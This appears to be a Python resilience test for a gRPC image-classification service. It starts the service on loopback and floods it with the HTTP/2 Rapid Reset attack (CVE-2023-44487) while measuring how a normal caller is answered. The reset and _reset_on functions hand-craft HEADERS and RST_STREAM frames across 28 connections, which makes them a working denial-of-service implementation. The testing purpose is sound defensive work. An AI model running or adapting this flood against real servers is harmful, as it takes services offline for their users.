"""Begins calls on many connections and resets them at once (CVE-2023-44487), beside a calm caller and a look at health.

python -m tests.reset_flood [SECONDS]

Starts a classification service of tiny models on loopback, floods it, and prints what the calm ones were
answered: calls that carry a header alone, then whole messages. Each flood comes from an address of its own, then one
from the calm caller's.
"""

import asyncio
import sys
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path

import grpc
from convoy.client import Convoy
from convoy.core.errors import Unavailable
from convoy.testing import pictures
from convoy.testing.tiny_models import write_repository
from convoy.v1 import classification_pb2, common_pb2
from grpc_health.v1 import health_pb2

from benchmarks.server import serving
from tests.raw_http2 import frame, headers

CONNECTIONS = 28
SAME_HOST = "127.0.0.1"
CLASSIFY, HEALTH = "/convoy.v1.ClassificationService/Classify", "/grpc.health.v1.Health/Check"
REQUEST = classification_pb2.ClassifyRequest(
    images=[common_pb2.Image(encoded=pictures.encode(pictures.plain((220, 20, 20))))]
).SerializeToString()
_CANCEL = (8).to_bytes(4)


async def reset(port: int, until: float, is_whole: bool, host: str, begun: Counter[str]) -> None:
    """Begin and reset calls on one connection until then, and on a new one where it is closed. Counts them in `begun`.

    host: the address of this machine from which they come.
    """
    while (left_s := until - time.monotonic()) > 0:
        try:
            async with asyncio.timeout(min(left_s, 3600)):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(host, 0))
        except OSError:
            await asyncio.sleep(0.05)
            continue
        closed = asyncio.ensure_future(reader.read())
        try:
            await _reset_on(writer, until, is_whole, closed, begun)
        except OSError:
            continue
        finally:
            closed.cancel()
            await asyncio.gather(closed, return_exceptions=True)
            writer.close()


async def _reset_on(
    writer: asyncio.StreamWriter, until: float, is_whole: bool, closed: "asyncio.Future[bytes]", begun: Counter[str]
) -> None:
    begin = headers(CLASSIFY if is_whole else HEALTH)
    body = frame(0, 1, 0, b"\0" + len(REQUEST).to_bytes(4) + REQUEST) if is_whole else b""
    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0))
    for stream in range(1, 2**20, 2):
        place = stream.to_bytes(4)
        whole = body[:5] + place + body[9:] if is_whole else b""
        writer.write(frame(1, 4, stream, begin) + whole + frame(3, 0, stream, _CANCEL))
        begun["calls"] += 1
        if stream % 100 == 99:
            await writer.drain()
            await asyncio.sleep(0)
            if closed.done() or writer.is_closing() or time.monotonic() > until:
                break


def flood(port: int, seconds: float, is_whole: bool, host: str, begun: Counter[str]) -> None:
    """Reset calls on CONNECTIONS connections for so long."""

    async def all_at_once() -> None:
        until = time.monotonic() + seconds
        await asyncio.gather(*(reset(port, until, is_whole, host, begun) for _ in range(CONNECTIONS)))

    asyncio.run(all_at_once())


def beside(address: str, seconds: float, is_whole: bool, host: str) -> tuple[int, list[str]]:
    """Flood a service of classification: how many calls were reset, and what a calm caller was answered, in order."""
    said, begun = list[str](), Counter[str]()
    attack = threading.Thread(target=flood, args=(int(address.rpartition(":")[2]), seconds, is_whole, host, begun))
    content = health_pb2.HealthCheckRequest().SerializeToString()
    with grpc.insecure_channel(address, [("grpc.enable_retries", 0)]) as channel:
        attack.start()
        while attack.is_alive():
            for name, method, message in (("classify", CLASSIFY, REQUEST), ("health", HEALTH, content)):
                try:
                    channel.unary_unary(method)(message, timeout=5)
                    said.append(f"{name} OK")
                except grpc.RpcError as error:
                    said.append(f"{name} {error.code().name}")
            time.sleep(0.05)
        attack.join()
    return begun["calls"], said


def _until_served(address: str) -> None:
    """Return when a call is answered: the service lives, and goes through what was begun."""
    with Convoy(classification=address, timeout_s=60) as convoy:
        for _ in range(60):
            try:
                assert convoy.classify(pictures.encode(pictures.plain((220, 20, 20)))).best.label == "red"
                return
            except Unavailable:
                time.sleep(1)
    raise AssertionError("nobody is served after the flood")


def main(seconds: float) -> None:
    """Flood, and tell."""
    with tempfile.TemporaryDirectory() as folder:
        models = write_repository(Path(folder))
        with serving("classification", models) as served:
            address = f"127.0.0.1:{served.port}"
            for is_whole, host in ((False, "127.0.0.2"), (True, "127.0.0.3"), (False, SAME_HOST)):
                begun, said = beside(address, seconds, is_whole, host)
                what = f"{'whole messages' if is_whole else 'headers alone'} from {host}"
                failed = [number for number, answer in enumerate(said) if not answer.endswith("OK")]
                print(
                    f"{what}: {begun} calls reset, {dict(Counter(said))}, the last that failed was number "
                    f"{failed[-1] + 1 if failed else 0} of {len(said)}",
                    flush=True,
                )
                _until_served(address)


if __name__ == "__main__":
    main(float(sys.argv[1]) if len(sys.argv) > 1 else 8.0)
